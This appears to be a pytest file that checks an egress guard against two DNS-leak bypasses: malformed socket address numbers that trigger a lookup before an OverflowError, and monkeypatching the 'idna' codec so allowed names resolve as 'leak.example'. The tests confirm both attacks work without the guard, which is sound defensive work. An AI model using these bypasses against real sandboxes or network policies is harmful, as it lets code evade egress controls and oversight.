"""Two ways by which a name reached libc although the guard had judged something else, or nothing: questions are counted.

The children have a network of their own, in which the nameserver's address is on `lo`.
"""

from __future__ import annotations

import sys
from pathlib import Path

import children
import nameserver
import pytest

pytestmark = pytest.mark.usefixtures("own_network")

START = """
import sys
from pathlib import Path
import socket
from inside import tell, word
from nameserver import Nameserver

guarded = sys.argv[1] == "guarded"
server = Nameserver({"listed.example": ["203.0.113.5"]})
if guarded:
    import egressguard
    egressguard.install(("listed.example:443",))
def count(title, call):
    tell([title, word(call), server.asked()])
"""

# The original complains about a flow label, and about a port, after it looked the host up.
NUMBERS = """
class Index:
    def __index__(self): return 1 << 20
def six(): return socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
for address in [("leak.example", 9, 1 << 20, 0), ("leak.example", 9, -1), ("leak.example", 9, Index(), 0),
                (b"leak.example", 9, 1 << 20), (bytearray(b"leak.example"), 9, 1 << 20), ("leak.example", 65536), ("leak.example", -1)]:
    count(f"connect {address}", lambda: six().connect(address))
    count(f"connect_ex {address}", lambda: six().connect_ex(address))
    count(f"bind {address}", lambda: six().bind(address))
    count(f"sendto {address}", lambda: six().sendto(b"x", address))
    count(f"sendto flags {address}", lambda: six().sendto(b"x", 0, address))
    count(f"sendmsg {address}", lambda: six().sendmsg([b"x"], [], 0, address))
"""

# The lookups put every str through the codec `idna`: Python code, which any code of the process can change.
CODEC = """
import _socket, reaches
import encodings.idna
module = reaches.load_copy(Path(sys.argv[2]), "_socket") if sys.argv[2] else _socket
def evil(self, input, errors="strict"):
    return b"leak.example", len(input)
encodings.idna.Codec.encode.__code__ = evil.__code__
for host in ("203.0.113.5", "2001:db8::5", "127.1", "listed.example", "localhost"):
    count(f"getaddrinfo {host}", lambda: module.getaddrinfo(host, 443))
    count(f"getaddrinfo by words {host}", lambda: module.getaddrinfo(host, 443, type=socket.SOCK_STREAM))
    count(f"getaddrinfo named {host}", lambda: module.getaddrinfo(host=host, port=443))
    count(f"gethostbyname {host}", lambda: module.gethostbyname(host))
    count(f"gethostbyname_ex {host}", lambda: module.gethostbyname_ex(host))
    count(f"gethostbyaddr {host}", lambda: module.gethostbyaddr(host))
count("service", lambda: module.getaddrinfo("127.0.0.1", "nosuchservice"))
count("create_connection", lambda: socket.create_connection(("listed.example", 443), 1))
count("connect", lambda: socket.socket(type=socket.SOCK_DGRAM).connect(("listed.example", 443)))
count("getnameinfo", lambda: _socket.getnameinfo(("127.0.0.1", 443), 0))
"""

OPEN = {"listed.example", "5.113.0.203.in-addr.arpa"}  # the name, and the reverse of the address that it was granted


def questions(source: str, mode: str, copy: str | Path = "") -> dict[str, tuple[str, set[str]]]:
    """Run the calls and return for each one its outcome and the names that were asked for."""
    told = children.python_alone(START + source, mode, copy, addresses=nameserver.on_lo()).told()
    return {title: (word, set(asked)) for title, word, asked in told}


def test_a_malformed_number_lets_no_name_out() -> None:
    """It is CPython's own OverflowError, about an address that needs no lookup."""
    told = questions(NUMBERS, "guarded")
    assert {asked for _, names in told.values() for asked in names} == set()
    assert {word for word, _ in told.values()} == {"OverflowError"}


def test_a_malformed_number_lets_every_name_out_without_the_guard() -> None:
    """The attack works."""
    assert all(names == {"leak.example"} for _, names in questions(NUMBERS, "unguarded").values())


def test_a_changed_codec_lets_no_other_name_out() -> None:
    """What was judged is handed on as bytes, which no codec sees."""
    told = questions(CODEC, "guarded")
    assert {asked for _, names in told.values() for asked in names} == OPEN
    assert told["create_connection"][1] == {"listed.example"}


@pytest.mark.skipif("_socket" in sys.builtin_module_names, reason="no file of _socket that could be copied")
def test_a_changed_codec_lets_no_other_name_out_by_a_copy(tmp_path: Path) -> None:
    """The copy's event tells the str and libc gets what the codec made of it: the floor refuses what is no bytes."""
    assert any("leak.example" in names for _, names in questions(CODEC, "unguarded", tmp_path).values())
    told = questions(CODEC, "guarded", tmp_path)
    assert {asked for _, names in told.values() for asked in names} <= OPEN


def test_a_changed_codec_lets_another_name_out_without_the_guard() -> None:
    """The attack works."""
    told = questions(CODEC, "unguarded")
    leaking = [title for title, (_, names) in told.items() if "leak.example" in names]
    assert {title.split()[0] for title in leaking} >= {
        "getaddrinfo",
        "gethostbyname",
        "gethostbyname_ex",
        "gethostbyaddr",
    }
